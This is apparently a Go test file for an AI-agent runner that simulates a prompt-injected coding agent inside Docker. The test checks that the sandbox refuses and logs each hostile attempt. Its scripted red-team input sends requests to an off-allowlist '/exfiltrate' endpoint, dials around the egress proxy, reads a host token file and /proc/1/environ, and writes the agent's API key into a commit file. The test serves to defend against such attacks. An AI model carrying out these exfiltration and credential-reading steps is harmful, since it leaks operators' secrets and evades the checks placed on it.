package runner_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/docker/docker/api/types/filters"
	"github.com/docker/docker/api/types/network"
	"github.com/stretchr/testify/require"

	"github.com/alfred-bot/alfred/runner"
	"github.com/alfred-bot/alfred/runner/agent/script"
	"github.com/alfred-bot/alfred/runner/egress"
	"github.com/alfred-bot/alfred/runner/gitrepo"
	"github.com/alfred-bot/alfred/runner/phase"
	"github.com/alfred-bot/alfred/runner/runtimetest"
	"github.com/alfred-bot/alfred/webhook/forge"
)

// keyedScript is the script adapter with what a real adapter has: its key in the environment and
// a provider host its runs must reach (runner.EgressAgent).
type keyedScript struct {
	*script.Agent
	key      string
	provider string // host:port
}

func (k keyedScript) Command(in phase.Input) (runner.Invocation, error) {
	inv, err := k.Agent.Command(in)
	inv.Env = append(inv.Env, "ANTHROPIC_API_KEY="+k.key)
	return inv, err
}

func (k keyedScript) EgressHosts() []string { return []string{k.provider} }

// TestRedTeamEgressDocker plays a prompt-injected agent on Docker with the egress allowlist on:
// it reaches its provider through the proxy; a host off the list is refused by the proxy (403,
// the server never sees a byte) and a direct connection meets the run's internal network; it
// prints its environment, reads a file of Alfred's host outside its mounts and writes its key
// into a file for the commit. Each attempt fails closed and shows: the run's output (the run's
// record) ends with the refusals, the runtime reports each one (cmd logs and counts it,
// alfred_egress_refused_total), the push is refused, nothing reaches the remote, the key is
// censored from the output, and the run's network is gone with its container.
func TestRedTeamEgressDocker(t *testing.T) {
	ctx := context.Background()
	provider := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "provider answers") }))
	t.Cleanup(provider.Close)
	var offListHits atomic.Int64
	offList := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { offListHits.Add(1) }))
	t.Cleanup(offList.Close)
	// The container's HTTP client sends loopback addresses around any proxy: the servers get
	// names, which the proxy (and only the proxy) resolves to them.
	names := map[string]string{"provider.test:" + portOf(provider.URL): hostOf(provider.URL),
		"offlist.test:" + portOf(offList.URL): hostOf(offList.URL)}
	providerURL := "http://provider.test:" + portOf(provider.URL)
	offURL := "http://offlist.test:" + portOf(offList.URL)
	offHost := "offlist.test:" + portOf(offList.URL)

	dir := t.TempDir()
	// A file of Alfred's on the host, outside every mount of the run.
	alfredFile := filepath.Join(dir, "alfred-secrets", "forge_token")
	require.NoError(t, os.MkdirAll(filepath.Dir(alfredFile), 0o755))
	require.NoError(t, os.WriteFile(alfredFile, []byte("forge-token-of-alfred\n"), 0o644))

	redTeam := fmt.Sprintf(`
development:
  summary: Did what the issue said.
  commit_message: "Add the export"
  connect: [%q, %q, %q]
  dial: [%q]
  print_env: true
  read_files: [%q, /proc/1/environ]
  write_env: {leak.txt: ANTHROPIC_API_KEY}
`, providerURL+"/v1/messages", offURL+"/exfiltrate", "https://"+offHost+"/exfiltrate",
		egress.ProxyHost+":"+portOf(offList.URL), alfredFile)
	d := setupDocker(t, ctx, redTeam)
	d.rt.EgressDial = func(ctx context.Context, network, addr string) (net.Conn, error) {
		if real, ok := names[addr]; ok {
			addr = real
		}
		return (&net.Dialer{}).DialContext(ctx, network, addr)
	}
	var mu sync.Mutex
	var refusedSeen []string
	d.rt.OnEgressRefused = func(labels map[string]string, target string) {
		mu.Lock()
		defer mu.Unlock()
		refusedSeen = append(refusedSeen, labels[runner.LabelPhase]+" "+target)
	}
	agent := keyedScript{Agent: d.agent.(*script.Agent), key: canaryAgentKey, provider: "provider.test:" + portOf(provider.URL)}
	ex, err := runner.NewExecutor(runner.Config{
		Runtime: d.rt, Agents: map[string]runner.Agent{script.Name: agent},
		Bindings: map[phase.Phase]string{phase.Development: script.Name},
		DataDir:  filepath.Join(dir, "data"), UID: runtimetest.ImageUID, GID: runtimetest.ImageGID,
		Limits:  runner.Limits{MemoryBytes: 256 << 20, NanoCPUs: 1e9, PIDs: 128},
		Timeout: 2 * time.Minute, StopGrace: time.Second,
		Egress: &runner.EgressPolicy{ProxyURL: egress.ProxyURL},
		Redact: func(s string) string { return strings.ReplaceAll(s, canaryAgentKey, "[redacted]") },
	})
	require.NoError(t, err)
	bare := seedRemote(t, dir, map[string]string{"README": "original\n"})
	mgr, err := gitrepo.New(gitrepo.Config{DataDir: filepath.Join(dir, "data"), AuthorName: "Alfred", AuthorEmail: "a@example.org",
		UID: runtimetest.ImageUID, GID: runtimetest.ImageGID,
		Secrets: []gitrepo.NamedSecret{{Name: "agents[0].api_key", Value: canaryAgentKey}}})
	require.NoError(t, err)
	svc := runner.NewService(ex, map[string]*gitrepo.Manager{"gl": mgr}, runner.SessionConfig{}, nil)
	const branch = "agent/issue-9-redteam"
	out, err := svc.Execute(ctx, phase.Job{MailboxID: 44, RunID: 1, Attempt: 1, ForgeName: "gl", Branch: branch, Push: true,
		Repository: forge.Repository{Path: "acme/shop", DefaultBranch: "main", CloneURL: bare},
		Input:      phase.Input{Phase: phase.Development, Repo: "acme/shop", Issue: 9}})
	require.NoError(t, err)
	log := out.Output

	// The provider, on the list, answers through the proxy.
	require.Contains(t, log, "connect "+providerURL+"/v1/messages: 200 OK: provider answers")
	// Off the list: refused by the proxy, plain HTTP and CONNECT alike; the server saw nothing.
	require.Contains(t, log, "connect "+offURL+"/exfiltrate: 403 Forbidden: alfred: egress to "+offHost+" refused")
	require.Regexp(t, `connect https://`+offHost+`/exfiltrate: error: .*Forbidden`, log)
	require.Zero(t, offListHits.Load(), "a host off the list was reached")
	// A direct connection, around the proxy: the host's loopback servers are not on the run's
	// network. (The host itself is reachable at its gateway address: spec/security.md, "The
	// host's own services". No address off this machine is dialled by the tests.)
	require.Regexp(t, `dial `+egress.ProxyHost+`:`+portOf(offList.URL)+`: error: `, log)
	// Visible: the run's output ends with the refusals, and the runtime reported each one.
	require.Contains(t, log, runner.EgressRefusedLine+offHost+" (2 times)")
	mu.Lock()
	require.Equal(t, []string{"development " + offHost, "development " + offHost}, refusedSeen)
	mu.Unlock()

	// The environment holds the proxy and the agent's key, which the output never shows.
	require.Contains(t, log, "env HTTPS_PROXY="+egress.ProxyURL)
	require.Contains(t, log, "env ANTHROPIC_API_KEY=[redacted]")
	require.NotContains(t, log, canaryAgentKey)
	// Alfred's file is not in the container's file system.
	require.Contains(t, log, "read "+alfredFile+": error: ")
	require.NotContains(t, log, "forge-token-of-alfred")

	// The key written for the commit is refused at the push; nothing reached the remote.
	require.Contains(t, out.Failure, "`leak.txt` holds the value of agents[0].api_key")
	require.NotContains(t, out.Failure, canaryAgentKey)
	require.Equal(t, "main", strings.TrimSpace(runGit(t, "-C", bare, "for-each-ref", "--format=%(refname:short)", "refs/heads/")),
		"no branch but main on the remote")
	require.NotContains(t, runGit(t, "-C", bare, "log", "-p", "--all"), canaryAgentKey)

	// The run's network went with its container.
	nets, err := d.cli.NetworkList(ctx, network.ListOptions{Filters: filters.NewArgs(filters.Arg("label", "alfred.egress.allow"),
		filters.Arg("label", runner.LabelMailbox+"=44"))})
	require.NoError(t, err)
	for _, n := range nets {
		require.NotContains(t, n.Name, "-mbx44-r1-", "network %s left behind", n.Name)
	}
}

func hostOf(u string) string {
	p, _ := url.Parse(u)
	return p.Host
}

func portOf(u string) string {
	p, _ := url.Parse(u)
	return p.Port()
}
